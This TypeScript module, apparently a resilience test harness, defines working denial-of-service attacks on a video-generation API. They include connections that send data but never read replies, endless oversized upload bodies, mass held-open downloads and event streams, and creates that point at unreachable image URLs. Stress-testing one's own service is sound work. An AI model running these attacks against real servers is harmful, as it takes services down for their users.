import { connect } from 'node:net';
import type { Socket } from 'node:net';

const MIB = 1024 * 1024;

/** What an attacker has and may reach. */
export interface Target {
  readonly url: string;
  /** Keys of several accounts. */
  readonly keys: readonly string[];
  /** Ids of large films, with their accounts' keys. */
  readonly films: readonly { readonly id: string; readonly key: string }[];
  /** Ids of videos that are long on their way, with their accounts' keys. */
  readonly running: readonly { readonly id: string; readonly key: string }[];
}

/** One attack; goes on until `signal`. */
export interface Attack {
  readonly name: string;
  readonly run: (target: Target, signal: AbortSignal) => Promise<void>;
}

/** A connection that writes `bytes`, then what `more` gives every now and then, reads nothing, and begins anew when it is cut off. */
async function hold(
  { url }: Target,
  bytes: string | Buffer,
  signal: AbortSignal,
  more?: () => string | Buffer,
): Promise<void> {
  const { hostname, port } = new URL(url);
  while (!signal.aborted) {
    const socket: Socket = connect(Number(port), hostname);
    socket.on('error', () => undefined).pause();
    socket.write(bytes);
    const timer = more ? setInterval(() => socket.writable && socket.write(more()), 1_000) : undefined;
    await new Promise<void>((resolve) => {
      socket.once('close', resolve);
      // One that reads nothing does not hear of the end either.
      const look = setTimeout(() => socket.destroy(), 8_000);
      signal.addEventListener('abort', () => socket.destroy(), { once: true });
      socket.once('close', () => clearTimeout(look));
    });
    clearInterval(timer);
    await pause(50);
  }
}

const pause = (ms: number): Promise<void> =>
  new Promise((resolve) => {
    setTimeout(resolve, ms);
  });

const many = (count: number, run: (index: number) => Promise<void>): Promise<void> =>
  Promise.all(Array.from({ length: count }, (_, index) => run(index))).then(() => undefined);

const get = (path: string, key?: string): string =>
  `GET ${path} HTTP/1.1\r\nhost: x\r\n${key ? `authorization: Bearer ${key}\r\n` : ''}\r\n`;

const post = (path: string, key: string, type: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${key}\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n`;

/** `scale` of 1 is the size that used to end a process. */
export function attacksOf(scale: number): Attack[] {
  const of = (count: number): number => Math.max(2, Math.round(count * scale));
  return [
    {
      name: '40 connections pipeline 1,000 × /openapi.json and read nothing',
      run: (target, signal) => many(of(40), () => hold(target, get('/openapi.json').repeat(1_000), signal)),
    },
    {
      name: '40 connections pipeline 1,000 × a script of /docs and read nothing',
      run: (target, signal) =>
        many(of(40), () => hold(target, get('/docs/swagger-ui-bundle.js').repeat(1_000), signal)),
    },
    {
      name: '43 MB and 31 MB of small members as JSON, again and again',
      run: (target, signal) => {
        const bodies = [43, 31].map((mb) => `{${'"0":1,'.repeat(Math.floor((mb * MIB) / 6))}"a":1}`);
        return many(of(4), (index) => {
          const body = bodies[index % 2]!;
          const head = post('/v1/videos', target.keys[0]!, 'application/json', body.length);
          return hold(target, Buffer.from(head + body), signal);
        });
      },
    },
    {
      name: '90 bodies of 31 to 64 MB that never end, JSON and forms, of three keys',
      run: (target, signal) =>
        many(of(90), (index) => {
          const key = target.keys[index % 3]!;
          const isForm = index % 2 === 0;
          const head = isForm
            ? `${post('/v1/videos', key, 'multipart/form-data; boundary=b', 64 * MIB)}--b\r\ncontent-disposition: form-data; name="prompt"\r\n\r\n`
            : `${post('/v1/videos', key, 'application/json', 31 * MIB)}{"prompt":"`;
          return hold(
            target,
            Buffer.concat([Buffer.from(head), Buffer.alloc(8 * MIB, 'x')]),
            signal,
            () => 'x',
          );
        }),
    },
    {
      name: '256 downloads of one account that read nothing',
      run: (target, signal) => {
        const ofOne = target.films.filter(({ key }) => key === target.films[0]!.key);
        return many(of(256), (index) => {
          const { id, key } = ofOne[index % ofOne.length]!;
          return hold(target, get(`/v1/videos/${id}/content`, key), signal);
        });
      },
    },
    {
      name: '64 creates at a time with URLs of names that nobody answers for',
      run: (target, signal) =>
        many(of(64), async (index) => {
          for (let turn = 0; !signal.aborted; turn++) {
            const name = (): string => `https://n${index}-${turn}-${Math.random()}.example.com/a.png`;
            await fetch(`${target.url}/v1/videos`, {
              method: 'POST',
              headers: {
                authorization: `Bearer ${target.keys[0]}`,
                'content-type': 'application/json',
              },
              body: JSON.stringify({
                model: 'Kling-3.0-Omni',
                prompt: 'x',
                images: [name(), name(), name(), name()],
              }),
            }).then(
              (answer) => answer.text(),
              () => undefined,
            );
          }
        }),
    },
    {
      name: '2,000 listeners of events and 500 downloads that read nothing',
      run: async (target, signal) => {
        await Promise.all([
          many(of(2_000), (index) => {
            const { id, key } = target.running[index % target.running.length]!;
            return hold(target, get(`/v1/videos/${id}/events`, key), signal);
          }),
          many(of(500), (index) => {
            const { id, key } = target.films[index % target.films.length]!;
            return hold(target, get(`/v1/videos/${id}/content`, key), signal);
          }),
        ]);
      },
    },
  ];
}
